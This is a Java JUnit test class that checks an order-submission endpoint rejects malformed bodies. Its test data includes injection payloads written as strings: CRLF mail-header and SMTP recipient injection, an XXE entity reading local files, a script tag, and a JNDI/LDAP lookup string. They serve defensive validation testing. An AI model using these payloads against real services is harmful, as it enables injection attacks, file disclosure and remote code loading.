package cl.reparto.faults.input;

import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static cl.reparto.faults.input.Draft.order;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Bodies of {@code POST /orders}.
 */
class BadOrderTests {

	private static final RunningSystem SYSTEM = RunningSystem.shared();

	@AfterAll
	static void nothingOfItIsPublishedOrLogged() {
		SYSTEM.assertInOrder();
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void namesTheBadField(String sentence, Draft order, String field) {
		assertThat(Problem.of(400, "invalid-order").assertIs(SYSTEM.post(order.bytes()))).containsExactly(field);
	}

	static Stream<Arguments> namesTheBadField() {
		return Stream.of( //
				arguments("the name is missing", order().without("name"), "name"),
				arguments("the name is null", order().with("name", "null"), "name"),
				arguments("the name is a number", order().with("name", "7"), "name"),
				arguments("the name is an object", order().with("name", "{\"name\":\"a\"}"), "name"),
				arguments("the name is empty", order().with("name", "\"\""), "name"),
				arguments("the name is blank", order().with("name", "\" \\u2003 \""), "name"),
				arguments("the name has 201 characters", order().with("name", text("ñ".repeat(201))), "name"),
				arguments("the name has a NUL", order().with("name", "\"pan\\u0000\""), "name"),
				arguments("the name has a tab", order().with("name", "\"pan\\t\""), "name"),
				arguments("the name brings a mail header", order().with("name", "\"pan\\r\\nBcc: a@b.cl\""), "name"),
				arguments("the name has a line separator", order().with("name", "\"pan\\u2028\""), "name"),
				arguments("the name has half a surrogate pair", order().with("name", "\"pan\\ud83e\""), "name"),
				arguments("the price is missing", order().without("price"), "price"),
				arguments("the price is null", order().with("price", "null"), "price"),
				arguments("the price is a text", order().with("price", "\"12990.50\""), "price"),
				arguments("the price is a list", order().with("price", "[1]"), "price"),
				arguments("the price is zero", order().with("price", "0.00"), "price"),
				arguments("the price is zero with a huge exponent", order().with("price", "0e999999999"), "price"),
				arguments("the price is negative", order().with("price", "-1"), "price"),
				arguments("the price is above the highest", order().with("price", "1000000000.01"), "price"),
				arguments("the price has 21 digits", order().with("price", "1.00000000000000000001"), "price"),
				arguments("the price is huge", order().with("price", "1e999999999"), "price"),
				arguments("the price is next to nothing", order().with("price", "1e-999999999"), "price"),
				arguments("the address is missing", order().without("email"), "email"),
				arguments("the address is true", order().with("email", "true"), "email"),
				arguments("the address has no @", order().with("email", text("ana.example.cl")), "email"),
				arguments("the address is two", order().with("email", text("a@b.cl,c@d.cl")), "email"),
				arguments("the address has a display name", order().with("email", text("Ana <a@b.cl>")), "email"),
				arguments("the address brings a recipient", order().with("email", "\"a@b.cl\\r\\nRCPT TO:<c@d.cl>\""),
						"email"),
				arguments("the address ends with a line", order().with("email", "\"a@b.cl\\n\""), "email"),
				arguments("the address is quoted", order().with("email", "\"\\\"a b\\\"@b.cl\""), "email"),
				arguments("the address is not ASCII", order().with("email", text("ñandú@b.cl")), "email"),
				arguments("the address has 255 characters",
						order().with("email", text("a@" + "b.".repeat(125) + "com")), "email"),
				arguments("a field is unknown", order().with("coupon", "\"abc\""), "coupon"),
				arguments("a field is written otherwise", order().with("Price", "1"), "Price"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void refusesTheBody(String sentence, byte[] body) {
		assertThat(Problem.of(400, "malformed-body").assertIs(SYSTEM.post(body))).isEmpty();
	}

	static Stream<Arguments> refusesTheBody() {
		return Stream.of( //
				body("it is empty", ""), body("it is blank", " \r\n "), body("it is null", "null"),
				body("it is a list of orders", "[" + order().json() + "]"), body("it is a text", "\"order\""),
				body("it breaks off", order().json().substring(0, 40)),
				body("it goes on after the order", order().json() + "x"),
				body("it is two orders", order().json().repeat(2)),
				body("it has a trailing comma", order().json().replace("}", ",}")),
				body("it has a comment", "/* order */" + order().json()),
				body("it has single quotes", order().json().replace('"', '\'')),
				body("the price is not a number", order().with("price", "NaN").json()),
				body("the price has a leading zero", order().with("price", "01").json()),
				body("the price has 101 digits", order().with("price", "1".repeat(101)).json()),
				body("a line break is not escaped", order().with("name", "\"pan\n\"").json()),
				body("it is nested a thousand deep", order().with("name", "[".repeat(1000) + "]".repeat(1000)).json()),
				body("it begins with a byte order mark", "\ufeff" + order().json()),
				arguments("it is in Latin-1", order().with("name", text("ñoquis")).json().getBytes(ISO_8859_1)),
				arguments("it is in UTF-16", order().json().getBytes(StandardCharsets.UTF_16)),
				arguments("it has a surrogate in UTF-8",
						order().with("name", text("\u00ed\u00a0\u00be")).json().getBytes(ISO_8859_1)),
				body("it is a form", "name=pan&price=1"),
				body("it is XML", "<!DOCTYPE o [<!ENTITY e SYSTEM 'file:///'>]>&e;"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void refusesWhatIsTooLarge(String sentence, byte[] body) {
		Problem.of(413, "body-too-large").assertIs(SYSTEM.post(body));
	}

	static Stream<Arguments> refusesWhatIsTooLarge() {
		return Stream.of(body("a name of 17 KiB", order().with("name", text("a".repeat(17 << 10))).json()),
				body("brackets without end", "[".repeat(17 << 10)));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void takesWhatOnlyLooksBad(String sentence, Draft order) {
		SYSTEM.taken(SYSTEM.post(order.bytes()));
	}

	static Stream<Arguments> takesWhatOnlyLooksBad() {
		return Stream.of( //
				arguments("a name of 200 characters beyond the first plane",
						order().with("name", text("🥟".repeat(200)))),
				arguments("a name that would be HTML", order().with("name", text("<script>alert(1)</script>"))),
				arguments("a name that turns the line around", order().with("name", text("pan \u202e 0001$"))),
				arguments("a name that would be a template",
						order().with("name", text("{{email}} ${jndi:ldap://x/a}"))),
				arguments("a price with an exponent", order().with("price", "1.2e3")),
				arguments("a price of 20 digits", order().with("price", "0.00000000000000000001")),
				arguments("an address with all that is allowed",
						order().with("email", text("!#$%&'*+/=?^_`{|}~-.a@b.cl"))),
				arguments("a name that is escaped", order().with("\\u006eame", text("pan")).without("name")));
	}

	private static Arguments body(String sentence, String body) {
		return arguments(sentence, body.getBytes(UTF_8));
	}

	private static String text(String value) {
		return "\"" + value + "\"";
	}

}
